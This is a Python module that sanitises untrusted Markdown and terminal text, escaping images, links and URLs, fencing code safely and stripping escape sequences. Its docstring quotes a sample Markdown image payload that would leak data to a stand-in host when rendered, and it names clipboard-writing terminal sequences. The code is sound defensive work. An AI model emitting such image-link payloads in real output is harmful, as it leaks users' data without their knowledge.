"""Text from code, data or a model, made safe to show.

Markdown from outside (a model's answer, an exception's message, a cell of a data file, a
file name) must never make the browser load anything: ``![x](http://host/leak?d=...)`` in an
error message would otherwise be fetched by the analyst's browser, which defeats the
kernel's no-network rule. :func:`neutralise_markdown` keeps the text's formatting (bold,
lists, code blocks, tables) but turns every image, link, reference definition, autolink and
bare URL into plain text; :func:`code_span` and :func:`code_fence` quote text as code
whatever backticks it holds.
"""
from __future__ import annotations

import re

_FENCE_OPEN = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_BACKTICKS = re.compile(r"`+")
_URL = re.compile(r"(?i)\b(?:[a-z][a-z0-9+.-]{1,20}://|www\.|mailto:)[^\s`<>]*")
_MARKUP = "[]<>"  # link/image/reference brackets, autolinks and HTML


def code_span(text: str) -> str:
    """``text`` as one inline code span (a longer backtick fence than any run inside)."""
    text = " ".join(str(text).splitlines()) or " "
    longest = max((len(m) for m in _BACKTICKS.findall(text)), default=0)
    ticks = "`" * (longest + 1)
    pad = " " if text.startswith("`") or text.endswith("`") else ""
    return f"{ticks}{pad}{text}{pad}{ticks}"


def code_fence(text: str, language: str = "text") -> str:
    """``text`` as a fenced code block that nothing inside can close."""
    longest = max((len(m) for m in re.findall(r"`{3,}", text)), default=2)
    fence = "`" * (longest + 1)
    return f"{fence}{language}\n{text.rstrip()}\n{fence}"


def _escape_prose(text: str) -> str:
    """Escape link/image/HTML brackets (unless already escaped) and quote URLs as code."""
    out: list[str] = []
    pos = 0
    for m in _URL.finditer(text):
        url = m.group(0)
        while url and url[-1] in ".,;:!?)" and (url[-1] != ")" or url.count("(") < url.count(")")):
            url = url[:-1]  # trailing punctuation of the sentence, not of the address
        out.append(_escape_brackets(text[pos:m.start()]))
        out.append(code_span(url))
        pos = m.start() + len(url)
    out.append(_escape_brackets(text[pos:]))
    return "".join(out)


def _escape_brackets(text: str) -> str:
    out: list[str] = []
    backslashes = 0
    for ch in text:
        if ch in _MARKUP and backslashes % 2 == 0:
            out.append("\\")
        out.append(ch)
        backslashes = backslashes + 1 if ch == "\\" else 0
    return "".join(out)


def _escape_inline(text: str) -> str:
    """Escape prose, leaving inline code spans (which render literally) as they are."""
    out: list[str] = []
    pos = 0
    while True:
        m = _BACKTICKS.search(text, pos)
        if m is None:
            break
        closing = re.compile(rf"(?<!`){m.group(0)}(?!`)").search(text, m.end())
        if closing is None:  # an unclosed run is literal backticks: keep scanning after it
            out.append(_escape_prose(text[pos:m.end()]))
            pos = m.end()
            continue
        out.append(_escape_prose(text[pos:m.start()]))
        out.append(text[m.start():closing.end()])
        pos = closing.end()
    out.append(_escape_prose(text[pos:]))
    return "".join(out)


def neutralise_markdown(text: str) -> str:
    """Markdown from outside with every image, link and URL shown as text; code blocks and
    code spans are kept as they are (they render literally)."""
    lines = str(text or "").splitlines(keepends=True)
    out: list[str] = []
    prose: list[str] = []
    fence: str | None = None
    for line in lines:
        if fence is None:
            m = _FENCE_OPEN.match(line)
            if m:
                out.append(_escape_inline("".join(prose)))
                prose = []
                fence = m.group(1)
                out.append(line)
            else:
                prose.append(line)
            continue
        out.append(line)
        stripped = line.strip()
        if stripped and set(stripped) == {fence[0]} and len(stripped) >= len(fence):
            fence = None
    out.append(_escape_inline("".join(prose)))
    return "".join(out)


# ESC sequences: CSI (ESC [ ... final), OSC/DCS/SOS/PM/APC (ESC ] ... BEL or ST), and two-byte ESC x;
# then any C0 control but tab/newline, DEL and the C1 controls (8-bit CSI/OSC among them)
_ESCAPES = re.compile(
    r"(?:\x1b\[|\x9b)[0-?]*[ -/]*[@-~]"
    r"|[\x1b][\]PX^_].*?(?:\x07|\x1b\\|\x9c|$)"
    r"|[\x9d\x90\x98\x9e\x9f].*?(?:\x07|\x1b\\|\x9c|$)"
    r"|\x1b[@-Z\\-_]?"
    r"|[\x00-\x08\x0b-\x1f\x7f-\x9f]", re.S)


def strip_terminal_controls(text: str) -> str:
    """Text safe to print on a terminal: no escape sequences (OSC 52 writes the clipboard,
    OSC 8 hides a link, CSI moves the cursor or recolours), no control characters but
    tab and newline (a carriage return could overwrite a line already printed)."""
    return _ESCAPES.sub("", str(text))


__all__ = ["code_fence", "code_span", "neutralise_markdown", "strip_terminal_controls"]
